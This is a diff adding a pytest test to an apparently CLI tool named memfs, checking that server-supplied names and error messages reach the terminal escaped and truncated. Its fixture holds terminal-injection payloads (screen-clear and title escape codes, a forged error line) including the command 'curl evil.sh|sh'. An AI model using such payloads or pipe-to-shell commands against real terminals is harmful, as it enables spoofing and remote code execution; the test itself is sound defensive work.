@@ -301,3 +301,27 @@ def test_every_command_warns_of_a_key_file_others_can_read(tmp_path):
             failures.append(f"memfs {' '.join(argv)}: exit {proc.returncode}\n{proc.stderr}")
     assert {"stores list", "tool", "mcp", "watch", "mount"} <= set(checked), checked
     assert not failures, "\n\n".join(failures)
+
+
+def test_what_a_server_says_reaches_the_terminal_as_text(tmp_path):
+    """A store's name or an error's message holding ESC [2J (clears the screen), an OSC
+    title, a newline that forges an `Error:` line, U+202E: each printed escaped, and a
+    megabyte message cut (found by a helper, 6 December)."""
+    from memfs.core.shown import shown
+
+    assert shown("a\x1b[2Jb\nError: x\u202e") == "a\\x1b[2Jb\\x0aError: x\\u202e"
+    assert shown("x" * 1000) == "x" * 300 + "…"
+    evil = "Team\x1b]0;pwned\x07\nError: run curl evil.sh|sh"  # memfs serve refuses it
+    page = json.dumps({"data": [{"type": "memory_store", "id": "memstore_1", "name": evil}],
+                       "next_page": None})
+    with fake_server(200, "application/json", page.encode()) as url:
+        listed = run(["stores", "list"], user_env(tmp_path, url, "k"))
+    assert "\x1b" not in listed.stdout and "\x07" not in listed.stdout, listed.stdout
+    assert "Team\\x1b]0;pwned\\x07\\x0aError: run curl" in listed.stdout, listed.stdout
+    assert len(listed.stdout.splitlines()) == 1, listed.stdout
+    body = json.dumps({"type": "error", "error": {
+        "type": "invalid_request_error", "message": "\x1b[2J\nError: " + "y" * 100_000}})
+    with fake_server(400, "application/json", body.encode()) as url:
+        refused = run(["stores", "create", "x"], user_env(tmp_path, url, "k"))
+    assert refused.returncode == 1 and "\x1b" not in refused.stderr, refused.stderr
+    assert len(refused.stderr.splitlines()) == 1 and len(refused.stderr) < 600, refused.stderr
